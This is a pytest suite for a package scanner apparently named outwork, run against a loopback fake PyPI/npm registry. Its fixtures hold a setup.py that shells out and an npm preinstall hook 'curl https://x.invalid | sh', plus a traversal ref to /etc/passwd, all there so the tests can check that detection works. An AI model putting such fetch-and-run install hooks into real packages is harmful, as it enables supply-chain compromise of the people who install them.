"""Registry targets, fetched from a loopback server that serves fixture JSON and archives."""

from __future__ import annotations

import base64
import hashlib
import json
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from outwork.analyzers.packages import PackageAnalyzer
from outwork.core.analyzer import AnalysisContext
from outwork.core.artifact import Artifact
from outwork.core.errors import TargetError
from outwork.core.findings import Finding, Skip
from outwork.sources import Budgets, RegistryOptions, open_target
from outwork.sources.registries import parse_ref
from tests.analyzers.packages.helpers import npm_tarball, sdist

EVIL = sdist("demo", "1.0", {"setup.py": "import os\nos.system('echo outwork-test | sh')\n"})
NPM = npm_tarball(
    '{"name": "@acme/demo", "version": "2.0.0",'
    ' "scripts": {"preinstall": "curl https://x.invalid | sh"}}',
    {},
)


class _Handler(BaseHTTPRequestHandler):
    routes: ClassVar[dict[str, tuple[str, bytes]]] = {}

    def do_GET(self) -> None:
        if self.path.startswith("/drip/"):
            self._drip()
            return
        route = self.routes.get(self.path)
        if route is None:
            self.send_response(404)
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", route[0])
        self.end_headers()
        self.wfile.write(route[1])

    def _drip(self) -> None:
        """A hostile registry: one byte every 50 ms, each read well inside the socket timeout."""
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.end_headers()
        try:
            for _ in range(200):
                self.wfile.write(b"x")
                self.wfile.flush()
                time.sleep(0.05)
        except OSError:
            pass  # the client gave up, as it should

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def registry() -> Iterator[str]:
    pypi_doc = {
        "info": {"name": "demo", "version": "1.0"},
        "releases": {
            "1.0": [
                {
                    "filename": "demo-1.0.tar.gz",
                    "packagetype": "sdist",
                    "url": "../../files/demo-1.0.tar.gz",  # relative, as some mirrors answer
                    "digests": {"sha256": hashlib.sha256(EVIL).hexdigest()},
                }
            ],
            "0.9": [
                {
                    "filename": "demo-0.9.tar.gz",
                    "packagetype": "sdist",
                    "url": "/files/demo-1.0.tar.gz",
                    "digests": {"sha256": "0" * 64},
                }
            ],
        },
        "urls": [],
    }
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(NPM).digest()).decode()
    npm_doc = {
        "name": "@acme/demo",
        "dist-tags": {"latest": "2.0.0"},
        "versions": {
            "2.0.0": {"dist": {"tarball": "/tarballs/demo-2.0.0.tgz", "integrity": integrity}}
        },
    }
    _Handler.routes = {
        "/pypi/demo/json": ("application/json", json.dumps(pypi_doc).encode()),
        "/files/demo-1.0.tar.gz": ("application/octet-stream", EVIL),
        "/npm/@acme%2fdemo": ("application/json", json.dumps(npm_doc).encode()),
        "/tarballs/demo-2.0.0.tgz": ("application/octet-stream", NPM),
    }
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _judge(items: list[object]) -> list[Finding]:
    analyzer = PackageAnalyzer()
    out: list[Finding] = []
    for item in items:
        if isinstance(item, Artifact) and analyzer.accepts(item):
            out += [f for f in analyzer.analyze(item, AnalysisContext()) if isinstance(f, Finding)]
    return out


def test_parse_refs() -> None:
    assert parse_ref("pypi:requests==2.32.3").version == "2.32.3"
    assert parse_ref("npm:@scope/x@1.2.3").name == "@scope/x"
    assert parse_ref("npm:left-pad").version is None
    with pytest.raises(TargetError):
        parse_ref("pypi:../../etc/passwd")


def test_pypi_release_is_fetched_verified_and_judged(registry: str) -> None:
    options = RegistryOptions(pypi_url=f"{registry}/pypi")
    items = list(open_target("pypi:demo==1.0", Budgets(), registry=options))
    artifacts = [i for i in items if isinstance(i, Artifact)]
    assert artifacts[0].path == "pypi:demo==1.0/demo-1.0.tar.gz"
    found = _judge(items)
    assert any(f.code == "PKG001" and f.severity.label == "critical" for f in found)


def test_digest_mismatch_is_skipped_with_reason(registry: str) -> None:
    options = RegistryOptions(pypi_url=f"{registry}/pypi")
    items = list(open_target("pypi:demo==0.9", Budgets(), registry=options))
    skips = [i for i in items if isinstance(i, Skip)]
    assert skips and "digest" in skips[0].reason
    assert not [i for i in items if isinstance(i, Artifact)]


def test_npm_scoped_latest(registry: str) -> None:
    options = RegistryOptions(npm_url=f"{registry}/npm")
    items = list(open_target("npm:@acme/demo", Budgets(), registry=options))
    found = _judge(items)
    assert any(f.code == "PKG014" and f.severity.label == "critical" for f in found)


def test_missing_name_and_version_are_errors_with_remedy(registry: str) -> None:
    options = RegistryOptions(pypi_url=f"{registry}/pypi")
    with pytest.raises(TargetError, match="does not exist"):
        list(open_target("pypi:nonexistent-thing", Budgets(), registry=options))
    with pytest.raises(TargetError, match="no such version"):
        list(open_target("pypi:demo==7.7", Budgets(), registry=options))


def test_cli_scans_a_registry_target_through_index_url(registry: str) -> None:
    import io

    from outwork.cli.main import run

    out, err = io.StringIO(), io.StringIO()
    code = run(
        ["scan", "pypi:demo==1.0", "--index-url", f"{registry}/pypi", "--no-cache", "-f", "json"],
        out,
        err,
    )
    assert code == 1, err.getvalue()
    data = json.loads(out.getvalue())
    critical = [f for f in data["findings"] if f["code"] == "PKG001"]
    assert critical and critical[0]["location"]["path"].startswith("pypi:demo==1.0/")


def test_a_registry_dripping_bytes_cannot_hold_the_scan(registry: str) -> None:
    from outwork.sources.registries import _download

    started = time.monotonic()
    options = RegistryOptions(timeout=2.0, max_seconds=0.5)
    with pytest.raises(TargetError, match="too slowly"):
        _download(f"{registry}/drip/file.tar.gz", Path(tempfile.mkdtemp()) / "f", None, options)
    assert time.monotonic() - started < 3.0
